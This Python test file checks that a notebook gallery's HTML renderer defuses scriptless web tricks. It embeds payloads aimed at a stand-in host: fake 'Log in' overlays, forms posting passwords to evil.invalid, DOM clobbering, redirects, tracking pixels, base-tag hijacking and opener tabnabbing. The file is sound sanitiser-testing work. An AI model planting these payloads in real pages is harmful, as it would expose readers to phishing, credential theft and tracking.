"""Tricks that need no script, each by itself: bare they catch the reader; on a notebook's page, without the page's policy, they do not."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Page, Route
from playwright.sync_api import Error as BrowserError

from gallery.model import Limits
from gallery.notebooks import render
from tests.browsers import chromium, served
from tests.notebooks.surfaces import code, data, prose

pytestmark = pytest.mark.skipif(shutil.which("chromium") is None, reason="Chromium is missing")

EVIL = "https://evil.invalid/"
OVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:999;background:#fff"
LINK = f'<a href="{EVIL}read">read</a>'
TRICKS = {
    "overlay by position": f'<div style="{OVER}">Log in</div>',
    "overlay by a style sheet": f"<style>p {{{OVER}}}</style><p>Log in</p>",
    "overlay by margin and size": '<div style="margin-top:-3000px;height:4000px;position:relative;background:#fff">Log in</div>',
    "overlay by a dialog": f'<dialog open style="{OVER}">Log in</dialog>',
    "overlay by MathML": f'<math style="{OVER}"><mtext>Log in</mtext></math>',
    "overlay by a popover": f'<button popovertarget=p id=go>More</button><div popover id=p style="{OVER}">Log in</div>',
    "clobbering of a document": "<img name=cookie><form name=getElementById></form><img name=querySelector>",
    "clobbering of a window": '<a id=galleryWords href="x"></a><form id=config><input name=url></form><a id=MathJax></a>',
    "form posting": f'<form action="{EVIL}take" method=post><input name=password value=x><button id=go>Next</button></form>',
    "form of a button elsewhere": f'<form id=f></form><button form=f formaction="{EVIL}take" id=go>Next</button>',
    "form of a picture": f'<form action="{EVIL}take"><input type=image src=x id=go width=50 height=50></form>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}away">',
    "target without noopener": f'<a href="{EVIL}read" target=other id=go>read</a>',
    "target with an opener": f'<a href="{EVIL}read" target=_blank rel=opener id=go>read</a>',
    "tracking by a picture": f'<img src="{EVIL}pixel.png" srcset="{EVIL}big.png 2x">',
    "tracking by a style": f'<p style="background-image:url({EVIL}pixel.png)">x</p>',
    "tracking by a style sheet": f'<link rel=stylesheet href="{EVIL}a.css"><style>@import "{EVIL}b.css";</style>',
    "tracking by a film": f'<video src="{EVIL}film.mp4" poster="{EVIL}poster.png" preload=auto></video>',
    "tracking by a frame": f'<iframe src="{EVIL}frame"></iframe><object data="{EVIL}object"></object>',
    "tracking by a click": f'<a href="#here" ping="{EVIL}ping" id=go>here</a>',
    "base": f'<base href="{EVIL}"><img src="figure.png">',
    "script address": "<a href=\"javascript:void(document.body.dataset.ran='yes')\" id=go>read</a>",
}
CAUGHT = """() => {
  const own = Document.prototype.getElementById.call(document, "own").getBoundingClientRect();
  const top = document.elementFromPoint(own.x + own.width / 2, own.y + own.height / 2);
  const fresh = document.implementation.createHTMLDocument("");
  return {
    covered: top?.id !== "own" && !!top,
    clobbered: ["cookie", "getElementById", "querySelector"].some((name) => typeof document[name] !== typeof fresh[name])
      || ["galleryWords", "config", "MathJax"].some((name) => window[name] instanceof Element),
    led: document.baseURI !== location.href,
    ran: !!document.body.dataset.ran,
  };
}"""


def surfaces(trick: str) -> list[dict]:
    """Cells that hold it in every way in which a notebook holds html."""
    return [
        prose(trick),
        prose(f"Words {trick} words\n\n- {trick}\n\n<div>{trick}</div>"),
        code(data("text/html", trick)),
        code(data("text/html", f"<table><tr><td>{trick}</td></tr></table>")),
        code(data("text/markdown", trick)),
        code(data("text/latex", trick)),
        code(data("image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>{trick}</foreignObject></svg>')),
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": trick},
    ]


def own_page(body: str) -> str:
    return f'<!doctype html><meta charset=utf-8><title>t</title><link rel=icon href="data:,"><p><button id=own>Launch</button></p>{body}'


@pytest.fixture(scope="module")
def context(tmp_path_factory) -> Iterator[tuple[BrowserContext, str]]:
    folder = tmp_path_factory.mktemp("inert")
    for number, trick in enumerate(TRICKS.values()):
        tree = {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": surfaces(trick)}
        page, files = render(json.dumps(tree).encode(), "a.ipynb", Limits())
        for figure in page.figures:
            (folder / f"{figure.digest}.{figure.suffix}").write_bytes(files[figure.digest])
        html = re.sub(r'"(?:asset|repo):([^"]*)"', r'"\1"', page.html)
        (folder / f"bare-{number}.html").write_text(own_page(f"{trick}<p>{LINK}</p>"), "utf-8")
        (folder / f"page-{number}.html").write_text(own_page(f"{html}<p>{LINK}</p>"), "utf-8")
    with served(folder) as address, chromium() as browser:
        yield browser.new_context(), address


def caught(context: BrowserContext, at: str) -> set[str]:
    """What becomes of a reader who opens the page and presses everything of a stranger on it."""
    signs: set[str] = set()

    def elsewhere(route: Route) -> None:
        signs.add("asked another site")
        route.fulfill(content_type="text/html", body="<title>evil</title>")

    context.route(f"{EVIL}**", elsewhere)
    tab = context.new_page()
    tab.on("popup", lambda new: signs.add("opened a page that holds this one") if new.evaluate("!!window.opener") else None)
    tab.goto(at, wait_until="load")
    tab.wait_for_timeout(150)  # a page that is led elsewhere at once goes now
    signs |= look(tab)
    press(tab)
    signs |= look(tab)
    for page in context.pages:
        page.close()
    context.unroute(f"{EVIL}**")
    return signs


def look(tab: Page) -> set[str]:
    if tab.url.startswith(EVIL):
        return {"led to another site"}
    try:
        return {name for name, yes in tab.evaluate(CAUGHT).items() if yes}
    except BrowserError:  # the page went away under us
        return {"led to another site"}


def press(tab: Page) -> None:
    """A click on whatever acts when it is pressed, links to other sites left out: a reader may follow those."""
    for thing in tab.locator("[id=go], .notebook :is(button, input, summary, a:not([href^=http]))").all():
        if not tab.url.startswith(EVIL) and thing.count() and thing.is_visible():
            thing.evaluate("(e) => e.click()")
            tab.wait_for_timeout(150)


@pytest.mark.parametrize("number", range(len(TRICKS)), ids=TRICKS)
def test_a_trick_catches_readers_of_a_bare_page_and_none_of_ours(context, number):
    tabs, address = context
    assert caught(tabs, f"{address}bare-{number}.html") != set()
    assert caught(tabs, f"{address}page-{number}.html") == set()
